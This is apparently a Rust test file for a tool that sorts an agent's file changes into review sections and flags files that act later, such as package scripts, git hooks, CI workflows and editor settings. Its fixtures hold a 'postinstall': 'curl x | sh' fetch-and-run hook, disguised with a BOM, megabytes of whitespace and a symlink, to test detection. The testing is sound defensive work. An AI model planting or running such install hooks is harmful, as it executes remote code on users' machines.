//! The review: sections, hunks and hints.

use expect_test::expect;
use serde_json::json;

use super::{LayerFixture, strings};

#[test]
fn scripts_of_packages_act_later_however_they_are_hidden_and_are_not_kept_without_a_person() {
    let plain = r#"{"name": "a", "scripts": {"test": "x"}}"#;
    let evil = r#"{"name": "a", "scripts": {"postinstall": "curl x | sh"}}"#;
    let long = format!("{}{}", " ".repeat(9 << 20), evil);
    let files = ["bom", "long", "link", "binary", "mode", "gone"].map(|name| (format!("{name}/package.json"), plain));
    let files: Vec<(&str, &str)> = files.iter().map(|(path, text)| (path.as_str(), *text)).collect();
    let layer = LayerFixture::new(&files);
    layer
        .write("new/package.json", evil)
        .write("bom/package.json", format!("\u{feff}{evil}"))
        .write("long/package.json", long)
        .write("link/other.json", evil)
        .link("link/package.json", "other.json")
        .write("binary/package.json", "\0")
        .write("mode/package.json", plain)
        .mode("mode/package.json", 0o600)
        .whiteout("gone/package.json")
        .write("node_modules/b/package.json", evil)
        .write("plain.txt", "kept");
    let layer = layer.ended();
    let later: Vec<String> = layer.listed().into_iter().filter(|line| line.starts_with("acts_later")).collect();
    let expected = ["modified binary", "modified bom", "link link", "modified long", "created new"];
    assert_eq!(later, expected.map(|line| format!("acts_later {line}/package.json")));
    let kept = layer.world.value("keep_layer", &json!({"layer": layer.id, "allowedOnly": true}));
    let kept = strings(&kept["kept"], "path");
    assert!(kept.contains(&"plain.txt".to_owned()) && kept.contains(&"node_modules/b/package.json".to_owned()));
    let left = layer.listed().into_iter().filter(|line| line.ends_with("package.json")).count();
    assert_eq!(left, expected.len(), "{:?}", layer.listed());
    // By its name it is kept.
    assert_eq!(strings(&layer.keep_paths(&["bom/package.json"])["kept"], "path"), ["bom/package.json"]);
}

#[test]
fn changes_are_listed_in_sections() {
    let files = [
        (".gitignore", "/target\n*.log\n"),
        ("package.json", r#"{"name": "a", "scripts": {"test": "x"}}"#),
        ("web/package.json", r#"{"name": "b"}"#),
        ("src/a", "a"),
        ("src/b", "b"),
        ("both", "old"),
    ];
    let layer = LayerFixture::new(&files);
    layer
        .write("package.json", r#"{"name": "a", "scripts": {"test": "curl x | sh"}}"#)
        .write("web/package.json", r#"{"name": "c"}"#)
        .write(".git/hooks/pre-commit", "#!/bin/sh\n")
        .write(".github/workflows/ci.yml", "on: push\n")
        .write(".vscode/settings.json", "{}\n")
        .write("Makefile", "all:\n")
        .write("target/debug/a.o", "12345")
        .write("target/debug/b.o", "123")
        .write("x.log", "12")
        // The workspace's own ignore file counts.
        .write("new/.gitignore", "*\n")
        .write("new/hidden", "h")
        .write("src/a", "b")
        .write("both", "new")
        .whiteout("src/b");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        layer.upper.join("pipe"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::RUSR,
        0,
    )
    .unwrap();
    layer.world.write("both", "mine");
    let layer = layer.ended();
    expect![[r#"
        acts_later created .git
        acts_later created .git/hooks
        acts_later created .git/hooks/pre-commit
        acts_later created .github/workflows
        acts_later created .github/workflows/ci.yml
        acts_later created .vscode
        acts_later created .vscode/settings.json
        acts_later modified package.json
        conflicts modified both
        conflicts unsupported pipe
        deletions deleted src/b
        changes modified src/a
        changes modified web/package.json
        additions created .github
        additions created Makefile
        additions created new
        additions created new/.gitignore
        additions created new/hidden
        derived 2 target
        derived 1 x.log
    "#]]
    .assert_eq(&(layer.listed().join("\n") + "\n"));
    let review = layer.review();
    let counts: Vec<u64> =
        review["sections"].as_array().unwrap().iter().map(|section| section["count"].as_u64().unwrap()).collect();
    assert_eq!(counts.iter().sum::<u64>() as usize + review["derived"].as_array().unwrap().len(), layer.listed().len());
    let later = &review["sections"][0]["items"];
    expect![[r#"
        a setting that git acts on
        a setting that git acts on
        a setting that git acts on
        a setting that GitHub acts on
        a setting that GitHub acts on
        a setting that VS Code acts on
        a setting that VS Code acts on
        scripts that package managers run
    "#]]
    .assert_eq(&(strings(later, "why").join("\n") + "\n"));
}

#[test]
fn a_review_has_hunks_that_can_be_drawn() {
    let layer = LayerFixture::new(&[("a", "1\n2\n3\n"), ("gone", "x\n"), ("bin", "\0")]);
    layer.write("a", "1\ntwo\u{202e}\t\n3").write("n", "new\n").write("bin", "\0\0").whiteout("gone");
    let layer = layer.ended();
    let mut review = layer.review();
    for key in ["layer", "session", "started", "ended"] {
        review["layer"][key] = json!("…");
    }
    expect![[r#"
        {
          "layer": {
            "layer": "…",
            "state": "ended",
            "program": "agent",
            "profile": "agent",
            "session": "…",
            "principal": "",
            "started": "…",
            "ended": "…",
            "exitCode": 0,
            "counts": {
              "created": 1,
              "changed": 2,
              "deleted": 1,
              "conflicts": 0
            }
          },
          "sections": [
            {
              "section": "acts_later",
              "count": 0,
              "omitted": 0,
              "items": []
            },
            {
              "section": "conflicts",
              "count": 0,
              "omitted": 0,
              "items": []
            },
            {
              "section": "deletions",
              "count": 1,
              "omitted": 0,
              "items": [
                {
                  "path": "gone",
                  "kind": "deleted",
                  "entry": "file",
                  "oldSize": 2,
                  "group": 2,
                  "policy": {
                    "decision": "allow",
                    "rule": "preset",
                    "reason": ""
                  },
                  "hunks": [
                    {
                      "index": 0,
                      "header": "@@ -1,1 +0,0 @@",
                      "old": {
                        "first": 1,
                        "count": 1
                      },
                      "new": {
                        "first": 0,
                        "count": 0
                      },
                      "lines": [
                        {
                          "change": "removed",
                          "text": "x"
                        }
                      ]
                    }
                  ],
                  "base": "73cb3858a687a8494ca3323053016282f3dad39d42cf62ca4e79dda2aac7d9ac"
                }
              ]
            },
            {
              "section": "changes",
              "count": 2,
              "omitted": 0,
              "items": [
                {
                  "path": "a",
                  "kind": "modified",
                  "entry": "file",
                  "size": 11,
                  "oldSize": 6,
                  "group": 0,
                  "policy": {
                    "decision": "allow",
                    "rule": "preset",
                    "reason": ""
                  },
                  "hunks": [
                    {
                      "index": 0,
                      "header": "@@ -1,3 +1,3 @@",
                      "old": {
                        "first": 1,
                        "count": 3
                      },
                      "new": {
                        "first": 1,
                        "count": 3
                      },
                      "lines": [
                        {
                          "change": "unchanged",
                          "text": "1"
                        },
                        {
                          "change": "removed",
                          "text": "2"
                        },
                        {
                          "change": "removed",
                          "text": "3"
                        },
                        {
                          "change": "added",
                          "text": "two\\u{202e}\t"
                        },
                        {
                          "change": "added",
                          "text": "3",
                          "unterminated": true
                        }
                      ]
                    }
                  ],
                  "base": "14c5e74c4b96ccef41cd94db73a9ec3348038ac094feca4fd897cecffa07cdae"
                },
                {
                  "path": "bin",
                  "kind": "modified",
                  "entry": "file",
                  "size": 2,
                  "oldSize": 1,
                  "group": 1,
                  "policy": {
                    "decision": "allow",
                    "rule": "preset",
                    "reason": ""
                  },
                  "note": "not text"
                }
              ]
            },
            {
              "section": "additions",
              "count": 1,
              "omitted": 0,
              "items": [
                {
                  "path": "n",
                  "kind": "created",
                  "entry": "file",
                  "size": 4,
                  "group": 3,
                  "policy": {
                    "decision": "allow",
                    "rule": "preset",
                    "reason": ""
                  },
                  "hunks": [
                    {
                      "index": 0,
                      "header": "@@ -0,0 +1,1 @@",
                      "old": {
                        "first": 0,
                        "count": 0
                      },
                      "new": {
                        "first": 1,
                        "count": 1
                      },
                      "lines": [
                        {
                          "change": "added",
                          "text": "new"
                        }
                      ]
                    }
                  ]
                }
              ]
            }
          ],
          "derived": [],
          "derivedOmitted": 0
        }
    "#]]
    .assert_eq(&(serde_json::to_string_pretty(&review).unwrap() + "\n"));
    let one = layer.world.value("review_layer", &json!({"layer": layer.id, "path": "n"}));
    assert_eq!(strings(&one["sections"][4]["items"], "path"), ["n"]);
    assert_eq!(one["sections"][3]["count"], json!(0));
}

#[test]
fn only_long_sections_of_changes_are_cut() {
    let mut setup = super::setup();
    setup.limits.list_entries = 3;
    let names: Vec<String> = (0..5).map(|number| format!("f{number}")).collect();
    let files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), "x")).collect();
    let layer = LayerFixture::with(setup, &files);
    for name in &names {
        layer.whiteout(name).write(&format!("n/{name}"), name);
    }
    let layer = layer.ended();
    let review = layer.review();
    let section = |index: usize| {
        let section = &review["sections"][index];
        (section["count"].clone(), section["omitted"].clone(), section["items"].as_array().unwrap().len())
    };
    assert_eq!(section(2), (json!(5), json!(0), 5));
    assert_eq!(section(4), (json!(6), json!(3), 3));
}
